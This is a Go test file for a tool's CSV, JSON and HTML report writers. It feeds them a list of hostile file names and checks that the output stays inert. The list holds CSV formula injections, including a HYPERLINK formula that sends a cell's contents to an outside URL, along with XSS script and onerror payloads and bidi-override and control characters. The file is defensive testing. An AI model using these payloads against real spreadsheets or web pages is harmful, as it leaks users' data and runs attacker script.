package report_test

import (
	"encoding/base64"
	"encoding/csv"
	"encoding/json"
	"slices"
	"strings"
	"testing"
	"unicode/utf8"

	"golang.org/x/net/html"

	"github.com/proviso-signals/proviso"
	"github.com/proviso-signals/proviso/container"
	"github.com/proviso-signals/proviso/stamp"
	"github.com/proviso-signals/proviso/stamp/report"
)

var hostile = []string{
	`=HYPERLINK("https://example.com/?"&A1,"photo.jpg")`, "+1+1.jpg", "-2.jpg", "@SUM(A1).jpg", "'=1.jpg", "＝1.jpg",
	"\t=1.jpg", "\r\n=1.jpg", "a\r\nb,c\"d\".jpg", " lead.jpg", "",
	`<script>alert(1)</script>.jpg`, `"><img src=x onerror=alert(1)>.jpg`, `</table></main><!--.jpg`, `{{.Path}}.jpg`, `a</script>b.jpg`,
	"evil\u202egpj.exe", "a\u2066b\u2069.jpg", "zero\u200bwidth.jpg", "nul\x00.jpg", "\x1b[31mred.jpg", "line\u2028two.jpg",
	"not\xffutf8\xc3.jpg", "literal \\x00.jpg", "replacement \ufffd.jpg", "日本語 写真.jpg", strings.Repeat("long/", 8_000) + "x.jpg",
}

// strange puts a text wherever a result has text that comes from outside.
func strange(text string) *stamp.Result {
	var o proviso.Outcomes
	o[proviso.TrainAI] = proviso.Permit(proviso.NewOffer(proviso.Term{Kind: text, Link: text, Text: text}))
	return &stamp.Result{Path: text, Target: text, Format: "jpeg", Status: stamp.Stamped, How: "replace", Before: o, After: o,
		Existing: []proviso.Evidence{{Statement: proviso.Statement{Outcomes: o, Party: proviso.Party{Name: text}}, Carrier: "mark", Spec: text, Where: proviso.Where{Source: text, Part: text}, Raw: text}},
		Losses:   []proviso.Loss{{Use: proviso.TrainAI, Said: o[proviso.TrainAI], Form: text, Why: text}},
		Hint:     text, Notes: []string{text}, Problems: []container.Problem{{Code: "jpeg-x", Hint: text}}}
}

func hostileResults() (list []*stamp.Result) {
	for _, name := range hostile {
		list = append(list, strange(name))
	}
	return list
}

// TestCSVRoundTrip: encoding/csv gives every path back, byte for byte, and no cell is
// what a spreadsheet would run.
func TestCSVRoundTrip(t *testing.T) {
	run := report.Run{Paths: hostile}
	text, _ := write(t, "a.csv", run, hostileResults(), ended, nil)
	if !utf8.ValidString(text) || strings.Count(text, "\n") != len(hostile)+1 || strings.Count(text, "\r\n") != len(hostile)+1 {
		t.Error("not UTF-8, or not a line a file")
	}
	lines, err := csv.NewReader(strings.NewReader(text)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if !slices.Equal(lines[0][:4], []string{"path", "path_base64", "format", "status"}) {
		t.Errorf("header: %v", lines[0])
	}
	for i, want := range hostile {
		line := lines[i+1]
		for _, cell := range line {
			if r, _ := utf8.DecodeRuneInString(cell); cell != "" && strings.ContainsRune("=+-@\t\r\n＝＋－＠", r) {
				t.Errorf("a spreadsheet may run %.99q", cell)
			}
			if len(cell) > report.MaxCell+100 && cell != line[1] {
				t.Errorf("a cell has %d bytes", len(cell))
			}
		}
		got := strings.TrimPrefix(line[0], "'")
		if line[1] != "" {
			b, err := base64.StdEncoding.DecodeString(line[1])
			if err != nil {
				t.Fatal(err)
			}
			got = string(b)
		}
		if got != want {
			t.Errorf("%.99q became %.99q", want, got)
		}
	}
}

func TestJSONRoundTrip(t *testing.T) {
	text, _ := write(t, "a.json", report.Run{Paths: hostile}, hostileResults(), ended, nil)
	var w struct {
		Files []struct {
			Path       string
			PathBase64 []byte `json:"path_base64"`
			Existing   []struct {
				Raw       string
				RawBase64 []byte `json:"raw_base64"`
			}
		}
	}
	if err := json.Unmarshal([]byte(text), &w); err != nil {
		t.Fatal(err)
	}
	for i, want := range hostile {
		f := w.Files[i]
		if f.PathBase64 != nil {
			f.Path, f.Existing[0].Raw = string(f.PathBase64), string(f.Existing[0].RawBase64)
		}
		if f.Path != want || f.Existing[0].Raw != want {
			t.Errorf("%.99q became %.99q and %.99q", want, f.Path, f.Existing[0].Raw)
		}
	}
}

// TestHTMLIsInert: names make no elements and no attributes, nothing is loaded, and no
// character is in the page that hides or turns text.
func TestHTMLIsInert(t *testing.T) {
	text, _ := write(t, "a.html", report.Run{Tool: hostile[11], Declaration: "javascript:alert(1)", Paths: hostile}, hostileResults(), ended, nil)
	if !utf8.ValidString(text) || strings.ContainsAny(text, "\u202e\u2066\u2069\u200b\u2028\x00\x1b\r") {
		t.Error("a character that hides or turns text is in the page")
	}
	root, err := html.Parse(strings.NewReader(text))
	if err != nil {
		t.Fatal(err)
	}
	count := map[string]int{}
	for n := range root.Descendants() {
		if n.Type == html.CommentNode {
			t.Errorf("a comment: %s", n.Data)
		}
		if n.Type != html.ElementNode {
			continue
		}
		count[n.Data]++
		for _, a := range n.Attr {
			switch {
			case (a.Key == "href" || a.Key == "src") && !strings.HasPrefix(a.Val, "#"), a.Key == "style", strings.HasPrefix(a.Key, "on"):
				t.Errorf("<%s %s=%q>", n.Data, a.Key, a.Val)
			}
		}
	}
	if count["script"] != 1 || count["style"] != 1 || count["img"] != 0 || count["link"] != 0 || count["main"] != 1 {
		t.Errorf("elements: %v", count)
	}
	if rows := strings.Count(text, "<th scope=\"row\" role=\"rowheader\">"); rows != len(hostile) {
		t.Errorf("%d rows for %d files", rows, len(hostile))
	}
}
